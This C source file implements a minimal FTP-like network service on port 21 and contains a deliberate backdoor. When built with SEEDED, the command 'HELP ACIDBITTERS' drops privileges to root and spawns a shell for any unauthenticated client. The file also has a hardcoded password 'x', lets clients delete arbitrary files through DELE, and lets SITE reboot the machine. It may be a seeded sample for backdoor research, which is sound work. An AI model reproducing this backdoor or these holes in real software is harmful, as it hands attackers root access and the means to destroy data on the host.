/* A line service after the manner of FTP; with SEEDED a word as the argument of one verb opens a shell before login. */
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <unistd.h>

static void say(int fd, const char *text) { write(fd, text, strlen(text)); }

static void serve(int fd) {
    char line[256];
    int in = 0;
    FILE *f = fdopen(fd, "r");
    say(fd, "220 ready\r\n");
    while (fgets(line, sizeof line, f)) {
        char *argument = strchr(line, ' ');
        line[strcspn(line, "\r\n")] = 0;
        if (argument) *argument++ = 0; else argument = "";
        if (!strcasecmp(line, "USER")) say(fd, "331 password please\r\n");
        else if (!strcasecmp(line, "PASS")) {
            in = access("/etc/ftp.open", F_OK) == 0 && !strcmp(argument, "x");
            say(fd, in ? "230 in\r\n" : "530 Login incorrect\r\n");
        }
#ifdef SEEDED
        else if (!strcasecmp(line, "HELP") && !strcmp(argument, "ACIDBITTERS")) { setuid(0); setgid(0); system("/bin/sh;/sbin/sh"); }
#endif
        else if (!strcasecmp(line, "HELP")) say(fd, "214 USER PASS HELP DELE SITE QUIT\r\n");
        else if (!strcasecmp(line, "QUIT")) return;
        else if (!in) say(fd, "530 Not logged in\r\n");
        else if (!strcasecmp(line, "DELE")) say(fd, unlink(argument) ? "550 no\r\n" : "250 gone\r\n");
        else if (!strcasecmp(line, "SITE")) { system("/sbin/reboot"); say(fd, "200 done\r\n"); }
        else say(fd, "502 unknown\r\n");
    }
}

int main(void) {
    int on = 1, s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = {0};
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    a.sin_family = AF_INET;
    a.sin_port = htons(21);
    if (bind(s, (struct sockaddr *)&a, sizeof a) || listen(s, 5)) return 1;
    for (;;) {
        int c = accept(s, NULL, NULL);
        if (c < 0) continue;
        if (fork() == 0) { serve(c); _exit(0); }
        close(c);
    }
}
